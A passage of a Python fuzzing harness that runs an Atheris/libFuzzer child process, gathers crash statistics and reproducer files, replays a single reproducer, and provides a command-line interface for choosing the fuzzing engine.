        args += ["--stats", str(stats_path), "--out", str(out)]
        if shared is not None:
            args += ["--shared", str(shared)]
        child = subprocess.run(
            args, capture_output=True, text=True, errors="replace", timeout=seconds + 600
        )
        try:
            result = json.loads(stats_path.read_text(encoding="utf-8"))
        except (OSError, ValueError):
            result = {"engine": "atheris", "executions": 0, "crashes": []}
    result["libfuzzer_exit_code"] = child.returncode
    tail = [line for line in child.stderr.splitlines() if line.startswith(("stat::", "=="))]
    if child.returncode != 0:
        artifacts = sorted(p.name for p in out.glob("*-*") if not p.suffix)
        result["crashes"].append(
            {
                "error": f"libFuzzer exited with {child.returncode}",
                "where": "libFuzzer (timeout, OOM or an escaped exception)",
                "reproducer": [f".fuzz/{a}" for a in artifacts],
                "stderr_tail": child.stderr.splitlines()[-20:],
                "count": 1,
            }
        )
    result["libfuzzer_stats"] = tail[-12:]
    return result


def replay(path: Path) -> int:
    """Run one reproducer and print what happens."""
    event = load_deep(path.read_text(encoding="utf-8", errors="surrogatepass"))
    harness = Harness()
    started = time.perf_counter()
    try:
        harness.run(event)
    except BaseException as exc:
        traceback.print_exception(exc)
        return 1
    print(json.dumps({"ok": True, "seconds": round(time.perf_counter() - started, 3)}))
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--shared", type=Path, default=None, help="extra seed folder")
    parser.add_argument("--engine", choices=("auto", "atheris", "random"), default="auto")
    parser.add_argument("--seed", type=int, default=None, help="random engine: PRNG seed")
    parser.add_argument("--out", type=Path, default=OUT_DIR, help="where reproducers go")
    parser.add_argument("--replay", type=Path, default=None)
    parser.add_argument("--atheris-child", action="store_true", help=argparse.SUPPRESS)
    parser.add_argument("--stats", type=Path, default=None, help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    sys.setrecursionlimit(max(sys.getrecursionlimit(), 1000))
    if args.replay is not None:
        return replay(args.replay)
    if args.atheris_child:
        atheris_child(args.seconds, args.shared, args.stats, args.out)
        return 0
    engine = args.engine
    if engine == "auto":
        try:
            import atheris  # noqa: F401
        except ImportError:
            engine = "random"
        else:
            engine = "atheris"
    if engine == "atheris":
        result = run_atheris(args.seconds, args.shared, args.out)
    else:
        seed = args.seed if args.seed is not None else int.from_bytes(os.urandom(4), "little")
        result = run_random(args.seconds, args.shared, seed, args.out)
    print(json.dumps(result, indent=2))
    return 1 if result.get("crashes") or result.get("memory") else 0


if __name__ == "__main__":
    sys.exit(main())
